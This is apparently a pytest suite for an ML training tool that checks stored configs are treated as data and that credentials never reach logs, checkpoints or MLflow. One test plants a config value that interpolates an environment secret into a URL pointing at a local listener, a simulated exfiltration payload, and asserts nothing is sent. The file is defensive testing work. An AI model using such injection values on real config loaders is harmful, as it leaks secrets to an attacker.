"""Untrusted configs and credentials (README "Security"): a stored config is data that decides only the model and
the clips' shape, no interpolation is ever resolved, credentials live in the environment and never reach the
console, Ray's logs and state exports, the checkpoints or MLflow, and bad input ends in one line before Ray."""
from __future__ import annotations

import http.server
import json
import os
import secrets as pysecrets
import shutil
import subprocess
import sys
import tempfile
import threading
from pathlib import Path
from urllib.parse import quote

import mlflow
import pytest
import torch
from hypothesis import given, settings
from hypothesis import strategies as st
from mlflow.tracking import MlflowClient

from nlray.config import ConfigError, apply_overrides, from_stored, from_yaml, load_config, to_yaml
from nlray.models import build_model
from nlray.secrets import MASK, redact
from nlray.testing.servers import BIN, free_port, start, stop
from tiny import TINY

REPO = Path(__file__).resolve().parents[1]


def run_job(script: str, *args: str, env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(REPO / "jobs" / script), *args], capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {})}, cwd=REPO)


class Listener:
    """An HTTP server on 127.0.0.1 that records every request path it is sent (where a planted config points)."""

    def __init__(self):
        paths = self.paths = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                paths.append(self.path)
                self.send_response(403)
                self.end_headers()

            do_HEAD = do_PUT = do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def write_checkpoint(folder: Path, config_text: str) -> Path:
    """A checkpoint folder as nlray writes it (model.pt, config.yaml, meta.json) around ``config_text``."""
    cfg = load_config("demo", ["model.width=8", "model.num_classes=6"])
    folder.mkdir(parents=True)
    torch.save(build_model(cfg.model, num_classes=6).state_dict(), folder / "model.pt")
    (folder / "config.yaml").write_text(config_text)
    (folder / "meta.json").write_text(json.dumps({"step": 4, "labels": [f"c{i}" for i in range(6)]}))
    return folder


# ------------------------------------------------------------------------------- finding 1: configs are data


def test_a_planted_config_that_reads_the_environment_sends_nothing_out(tmp_path):
    secret = f"planted-{pysecrets.token_hex(12)}"
    listener = Listener()
    try:
        stored = load_config("demo", ["model.width=8", "model.num_classes=6", "data.root=s3://victim/k400"])
        text = to_yaml(stored).replace(  # what an attacker with write access to the MLflow server plants
            "s3_endpoint_url: ''", f"s3_endpoint_url: http://127.0.0.1:{listener.port}/${{oc.env:NLRAY_T_SECRET}}")
        assert "oc.env:NLRAY_T_SECRET" in text
        ckpt = write_checkpoint(tmp_path / "ckpt", text)
        out = run_job("evaluate.py", "--checkpoint", str(ckpt), "--data", "s3://victim/k400",
                      env={"NLRAY_T_SECRET": secret, "AWS_ENDPOINT_URL": f"http://127.0.0.1:{listener.port}"})
    finally:
        listener.close()
    assert out.returncode == 2, out.stderr[-2000:]
    assert [p for p in listener.paths if secret in p] == []  # never sent
    assert "interpolation" in out.stderr and "s3_endpoint_url" in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1 and secret not in out.stdout + out.stderr


def test_a_stored_config_decides_only_the_model_and_the_clip_shape(monkeypatch):
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.delenv("NLRAY_DATA", raising=False)
    stored = load_config("nl_i3d_r50_32f", [
        "name=theirs", "data.root=s3://their-bucket/k400", "data.cache_dir=/tmp/theirs",
        "tracking.uri=http://their-host:5000", "cluster.address=their-head:6379", "train.storage_path=s3://their/ck",
        "data.decode_actors=500", "data.decode_actors_max=500", "data.frames=8", "data.eval_num_clips=3"])
    got = from_stored(to_yaml(stored), ["data.decode_actors=2"], root="s3://mine/k400")
    caller = load_config("demo")
    assert got.model == stored.model and got.name == "theirs"
    assert (got.data.frames, got.data.eval_num_clips) == (8, 3)  # the clip shape the model was trained for
    assert got.data.root == "s3://mine/k400" and got.data.cache_dir == caller.data.cache_dir
    assert (got.tracking.uri, got.cluster.address) == (caller.tracking.uri, caller.cluster.address)
    assert got.train.storage_path == caller.train.storage_path and got.data.decode_actors == 2
    with pytest.raises(ConfigError, match="s3://their-bucket/k400.*--data"):
        from_stored(to_yaml(stored))  # what to read is the caller's: named, not taken


@pytest.mark.parametrize("where", ["override", "preset", "saved", "environment"])
def test_no_interpolation_is_resolved_anywhere(where, tmp_path, monkeypatch):
    monkeypatch.setenv("NLRAY_T_SECRET", "resolved-secret-value")
    value = "/data/${oc.env:NLRAY_T_SECRET}"
    if where == "environment":  # cluster-wide defaults are data too: kept literally
        monkeypatch.setenv("NLRAY_DATA", value)
        assert load_config("demo").data.root == value
        return
    with pytest.raises(ConfigError, match="interpolation") as err:
        if where == "override":
            load_config("demo", [f"data.root={value}"])
        elif where == "preset":
            (tmp_path / "p.yaml").write_text(f"base: demo\ndata: {{root: '{value}'}}\n")
            load_config(str(tmp_path / "p.yaml"))
        else:
            from_yaml(f"data: {{root: '{value}'}}\n")
    assert "data.root" in str(err.value) and "resolved-secret-value" not in str(err.value)


def test_an_escaped_dollar_brace_stays_literal_through_every_reload(monkeypatch):
    monkeypatch.setenv("NLRAY_T_SECRET", "resolved-secret-value")
    cfg = load_config("demo", [r"data.root=/x/\${oc.env:NLRAY_T_SECRET}"])
    assert cfg.data.root == "/x/${oc.env:NLRAY_T_SECRET}"
    again = apply_overrides(cfg, ["train.steps=3"])  # resolved a second time before
    assert again.data.root == cfg.data.root and from_yaml(to_yaml(again)).data.root == cfg.data.root


# --------------------------------------------------------------------- finding 2: credentials out of the tree


def test_tracking_credentials_move_from_the_uri_to_the_environment(monkeypatch):
    for var in ("MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD"):
        monkeypatch.delenv(var, raising=False)
    password = f"p/w?#{pysecrets.token_hex(6)}"
    uri = f"https://alice:{quote(password, safe='')}@mlflow.example:5000/x"
    with pytest.raises(ConfigError, match="MLFLOW_TRACKING_PASSWORD") as err:  # seen by ps, recorded by Ray
        load_config("demo", [f"tracking.uri={uri}"])
    assert password not in str(err.value) and quote(password, safe="") not in str(err.value)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", uri)
    cfg = load_config("demo")
    assert cfg.tracking.uri == "https://mlflow.example:5000/x"
    assert os.environ["MLFLOW_TRACKING_USERNAME"] == "alice" and os.environ["MLFLOW_TRACKING_PASSWORD"] == password
    assert password not in to_yaml(cfg) and quote(password, safe="") not in to_yaml(cfg)
    assert redact(f"failed: {password}") == f"failed: {MASK}"


USER = st.text(st.sampled_from("abcXYZ019._-~"), min_size=1, max_size=12)
HOST = st.sampled_from(["head", "mlflow.example.com", "10.0.0.5", "[::1]"])
PORT = st.sampled_from(["", ":5000", ":443"])
PATH = st.sampled_from(["", "/", "/api/2.0", "/b/k.mp4?x=1"])
SCHEME = st.sampled_from(["http", "https", "postgresql", "mysql+pymysql", "ray"])


@settings(max_examples=300, deadline=None)
@given(scheme=SCHEME, user=USER, host=HOST, port=PORT, path=PATH, pre=st.sampled_from(["", "at ", "'", "uri="]),
       password=st.one_of(  # raw with / ? # (no "@" then), raw with "@" (no / ? # then), or percent-encoded
           st.text(st.sampled_from("aZ9!$&()*+,;=:/?#%-._~"), min_size=1, max_size=16),
           st.text(st.sampled_from("aZ9!$&*+,;=:@-._~"), min_size=1, max_size=16),
           st.text(min_size=1, max_size=16).map(lambda s: quote(s, safe=""))))
def test_redact_masks_any_userinfo_and_keeps_the_rest(scheme, user, password, host, port, path, pre):
    if "@" in password and any(c in password for c in "/?#"):
        password = password.replace("@", "")
    text = f"{pre}{scheme}://{user}:{password}@{host}{port}{path} failed"
    assert redact(text) == f"{pre}{scheme}://{MASK}@{host}{port}{path} failed"
    bare = f"endpoint {user}:{password.replace('/', '').replace('@', '') or 'x'}@{host}{port} down"
    assert redact(bare) == f"endpoint {MASK}@{host}{port} down"
    encoded = quote(f"{scheme}://{user}:{password}@{host}{port}", safe="")
    assert redact(encoded) == quote(f"{scheme}://", safe="") + MASK + quote(f"@{host}{port}", safe="")


@pytest.mark.parametrize("text, expected", [
    ("GET https://b.s3.amazonaws.com/k.mp4?X-Amz-Credential=AKIA%2F1&X-Amz-Signature=ab12&X-Amz-Date=1 403",
     "GET https://b.s3.amazonaws.com/k.mp4?X-Amz-Credential=***&X-Amz-Signature=***&X-Amz-Date=1 403"),
    ("s3://b/ckpt?X-Amz-Security-Token=FQo%2Bxx", "s3://b/ckpt?X-Amz-Security-Token=***"),
    ("http://h/api?token=abc&x=1", "http://h/api?token=***&x=1"),
    ("s3://bucket/a@b/key.mp4 and mail@example.com", "s3://bucket/a@b/key.mp4 and mail@example.com"),
])
def test_redact_masks_signed_url_values_and_leaves_object_keys(text, expected):
    assert redact(text) == expected


# ------------------------------------------------------------- finding 6: bad input in one line, before Ray


@pytest.mark.parametrize("args", [
    ["--data", "gs://bucket/k400"], ["--data", "http://host/k400"], ["--data", "s3:/bucket/k400"],
    ["--init-from", "https://host/model.pt"], ["train.storage_path=hdfs://nn/results"],
])
def test_a_job_refuses_an_unknown_scheme_in_one_line_before_ray(args):
    out = run_job("train.py", *args, timeout=60)
    assert out.returncode == 2 and len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert "unsupported scheme" in out.stderr and "Ray" not in out.stdout + out.stderr


@pytest.mark.parametrize("args, words", [
    (["--run", "somename"], ["--run 'somename'", "run id"]),
    (["--run", "runs:/nothex"], ["run id"]),
    (["--checkpoint", "gs://b/ckpt"], ["unsupported scheme"]),
    (["--checkpoint", "/nonexistent/ckpt"], ["not a checkpoint directory", "model.pt"]),
    (["--run", "0" * 32, "--tracking-uri", "http://127.0.0.1:{closed}"], ["did not answer within"]),
])
def test_evaluate_answers_bad_input_in_one_line_with_exit_code_2(args, words):
    args = [a.format(closed=free_port()) for a in args]
    out = run_job("evaluate.py", *args, timeout=60)
    assert out.returncode == 2 and len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert all(w in out.stderr for w in words), out.stderr
    assert "Traceback" not in out.stderr and "Started a local Ray" not in out.stderr


def test_an_unreachable_tracking_server_stops_a_job_in_one_line():
    out = run_job("train.py", env={"MLFLOW_TRACKING_URI": f"http://alice:pw-{pysecrets.token_hex(4)}@127.0.0.1:"
                                                          f"{free_port()}"}, timeout=60)
    assert out.returncode == 2 and "did not answer within 10 s" in out.stderr and "pw-" not in out.stderr


# --------------------------------------------- end to end: a real run leaves no credential anywhere it writes


@pytest.fixture(scope="module")
def auth_mlflow(tmp_path_factory):
    """An `mlflow server --app-name basic-auth` (the cluster's setup): no permission without credentials."""
    root = tmp_path_factory.mktemp("mlflow-auth")
    password = f"admin/{pysecrets.token_hex(10)}"
    ini = root / "basic_auth.ini"
    ini.write_text(f"[mlflow]\ndefault_permission = NO_PERMISSIONS\ndatabase_uri = sqlite:///{root / 'auth.db'}\n"
                   "admin_username = admin\nauthorization_function = mlflow.server.auth:authenticate_request_basic_auth\n")
    port = free_port()
    env = {**os.environ, "MLFLOW_AUTH_CONFIG_PATH": str(ini), "MLFLOW_AUTH_ADMIN_PASSWORD": password,
           "MLFLOW_FLASK_SERVER_SECRET_KEY": pysecrets.token_hex(16)}
    cmd = [str(BIN / "mlflow"), "server", "--app-name", "basic-auth", "--host", "127.0.0.1", "--port", str(port),
           "--backend-store-uri", f"sqlite:///{root / 'mlflow.db'}", "--artifacts-destination",
           str(root / "artifacts"), "--workers", "1"]
    old = os.environ.copy()
    os.environ.update({k: env[k] for k in ("MLFLOW_AUTH_CONFIG_PATH", "MLFLOW_AUTH_ADMIN_PASSWORD",
                                             "MLFLOW_FLASK_SERVER_SECRET_KEY")})
    try:
        proc = start(cmd, f"http://127.0.0.1:{port}/health", root / "server.log", timeout=120)
    finally:
        os.environ.clear()
        os.environ.update(old)
    try:
        yield {"host": f"127.0.0.1:{port}", "password": password}
    finally:
        stop(proc)


def files_holding(folder: Path, needles: list[bytes]) -> list[str]:
    hits = []
    for path in folder.rglob("*"):
        if path.is_file() and not path.is_symlink() and path.stat().st_size < 200 * 2**20:
            data = path.read_bytes()
            hits += [f"{path}: {n[:6]!r}..." for n in needles if n in data]
    return hits


def test_no_credential_reaches_the_console_ray_logs_checkpoints_or_mlflow(auth_mlflow, s3_data, tmp_path,
                                                                          monkeypatch):
    aws = {"AWS_ACCESS_KEY_ID": f"AKIA{pysecrets.token_hex(8).upper()}",
           "AWS_SECRET_ACCESS_KEY": f"sec/{pysecrets.token_hex(16)}+x",
           "AWS_SESSION_TOKEN": f"tok/{pysecrets.token_hex(20)}=="}
    password = auth_mlflow["password"]
    needles = [s.encode() for v in [password, *aws.values()] for s in {v, quote(v, safe="")}]
    ray_tmp = Path(tempfile.mkdtemp(prefix="nlr", dir="/tmp"))  # short: Ray's socket paths have a length limit
    env = {**aws, "RAY_TMPDIR": str(ray_tmp), "RAY_TRAIN_ENABLE_STATE_TRACKING": "1",
           "RAY_enable_export_api_write": "1", "MLFLOW_TRACKING_USERNAME": "", "MLFLOW_TRACKING_PASSWORD": "",
           "MLFLOW_TRACKING_URI": f"http://admin:{quote(password, safe='')}@{auth_mlflow['host']}"}
    try:
        out = run_job("train.py", "--data", s3_data, "--name", "secrets-e2e", *TINY, "train.steps=4",
                      "train.checkpoint_every=4", "tracking.experiment=t-e2e",
                      f"train.storage_path={tmp_path / 'results'}", f"data.cache_dir={tmp_path / 'cache'}",
                      "tracking.system_metrics_interval_s=0", env=env, timeout=600)
        assert out.returncode == 0, out.stderr[-3000:]
        console = (out.stdout + out.stderr).encode()
        assert [n for n in needles if n in console] == [] and b"View run" not in console
        assert files_holding(ray_tmp, needles) == []  # session logs, worker logs, Ray Train's state export
        assert files_holding(tmp_path, needles) == []  # checkpoints (config.yaml) and the manifest cache
    finally:
        shutil.rmtree(ray_tmp, ignore_errors=True)
    monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", "admin")
    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", password)
    server = f"http://{auth_mlflow['host']}"
    client = MlflowClient(server)
    run = client.search_runs([client.get_experiment_by_name("t-e2e").experiment_id])[0]
    assert run.info.status == "FINISHED" and "train/loss" in run.data.metrics  # rank 0 logged: it had the creds
    text = json.dumps({**run.data.params, **run.data.tags}).encode()
    assert [n for n in needles if n in text] == [] and run.data.params["tracking.uri"] == server
    local = Path(mlflow.artifacts.download_artifacts(run_id=run.info.run_id, dst_path=str(tmp_path / "dl"),
                                                     tracking_uri=server))
    assert files_holding(local, needles) == []
